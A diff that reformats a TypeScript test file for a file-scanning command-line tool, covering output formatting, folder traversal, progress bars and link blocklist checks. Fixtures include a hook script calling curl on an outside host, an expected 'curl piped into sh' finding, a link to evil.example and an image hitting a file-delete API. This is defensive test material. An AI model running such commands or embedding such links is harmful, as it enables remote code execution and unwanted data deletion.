@@ -26,7 +26,11 @@ writeFileSync(join(work, "tree", "nested", ".git", "hook.sh"), "curl https://x.e
 writeFileSync(join(work, "tree", "image.png"), "not scanned");
 
 function run(...args: string[]) {
-  const r = spawnSync(bin, ["scan", ...args], { cwd: work, encoding: "utf8", env: { ...process.env, PATH: "/usr/bin:/bin" } });
+  const r = spawnSync(bin, ["scan", ...args], {
+    cwd: work,
+    encoding: "utf8",
+    env: { ...process.env, PATH: "/usr/bin:/bin" },
+  });
   return { code: r.status, stdout: r.stdout, stderr: r.stderr };
 }
 
@@ -55,14 +59,19 @@ test("text: grouped by file, no colour when not on a terminal, secrets masked", 
   assert.equal(r.code, 1);
   assert.ok(!r.stdout.includes("\u001b["), "no escape codes in a pipe");
   assert.ok(!r.stdout.includes(AWS));
-  assert.match(r.stdout, /^high\.sh\n {2}high {3}line 1:1 {2}downloads with curl and pipes it into sh {2}download-exec/m);
+  assert.match(
+    r.stdout,
+    /^high\.sh\n {2}high {3}line 1:1 {2}downloads with curl and pipes it into sh {2}download-exec/m,
+  );
   assert.match(r.stdout, /^broken\.ipynb\n {2}high {3}line 1:12 {2}the file could not be read/m);
   assert.match(r.stdout, /3 files scanned, 3 with findings: 3 high, 0 medium, 1 low\n$/);
 });
 
 test("folders: the known extensions, sorted, skipping version control folders", () => {
   const r = run("tree", "--format", "json");
-  const files = (JSON.parse(r.stdout) as { files: { summary: { file: string } }[] }).files.map((file) => file.summary.file);
+  const files = (JSON.parse(r.stdout) as { files: { summary: { file: string } }[] }).files.map(
+    (file) => file.summary.file,
+  );
   assert.deepEqual(files, [join("tree", "nested", "a.R")]);
 });
 
@@ -87,7 +96,13 @@ function captured(isTerminal: boolean) {
   return {
     out,
     err,
-    io: { stdout: (text: string) => out.push(text), stderr: (text: string) => err.push(text), stdoutIsTerminal: isTerminal, stderrIsTerminal: isTerminal, env: {} },
+    io: {
+      stdout: (text: string) => out.push(text),
+      stderr: (text: string) => err.push(text),
+      stdoutIsTerminal: isTerminal,
+      stderrIsTerminal: isTerminal,
+      env: {},
+    },
   };
 }
 
@@ -121,14 +136,32 @@ test("a progress bar on a terminal's standard error for large folders only, eras
 });
 
 test("links are judged with the studio's own origin and blocklists", () => {
-  writeFileSync(join(work, "links.md"), "[tool](https://evil.example/x) and ![s](https://studio.example/api/files/delete)\n");
-  const plain = JSON.parse(run("links.md", "--format", "json").stdout) as { files: { findings: { rule: string; message: string }[] }[] };
+  writeFileSync(
+    join(work, "links.md"),
+    "[tool](https://evil.example/x) and ![s](https://studio.example/api/files/delete)\n",
+  );
+  const plain = JSON.parse(run("links.md", "--format", "json").stdout) as {
+    files: { findings: { rule: string; message: string }[] }[];
+  };
   assert.deepEqual(plain.files[0]!.findings, []);
-  const add = spawnSync(bin, ["blocklist", "add", "evil.example", "--data-dir", join(work, "data")], { cwd: work, encoding: "utf8" });
+  const add = spawnSync(bin, ["blocklist", "add", "evil.example", "--data-dir", join(work, "data")], {
+    cwd: work,
+    encoding: "utf8",
+  });
   assert.equal(add.status, 0, add.stderr);
-  const judged = run("links.md", "--format", "json", "--data-dir", join(work, "data"), "--app-origin", "https://studio.example");
+  const judged = run(
+    "links.md",
+    "--format",
+    "json",
+    "--data-dir",
+    join(work, "data"),
+    "--app-origin",
+    "https://studio.example",
+  );
   assert.equal(judged.code, 1);
-  const messages = (JSON.parse(judged.stdout) as { files: { findings: { rule: string; message: string }[] }[] }).files[0]!.findings.map((f) => `${f.rule} ${f.message}`);
+  const messages = (
+    JSON.parse(judged.stdout) as { files: { findings: { rule: string; message: string }[] }[] }
+  ).files[0]!.findings.map((f) => `${f.rule} ${f.message}`);
   assert.equal(messages.length, 2);
   assert.match(messages[0]!, /^url-verdict the URL check blocks this link \[blocklisted\] \(list admin\)/);
   assert.match(messages[1]!, /^url-verdict the URL check blocks this image \[app_api\]/);
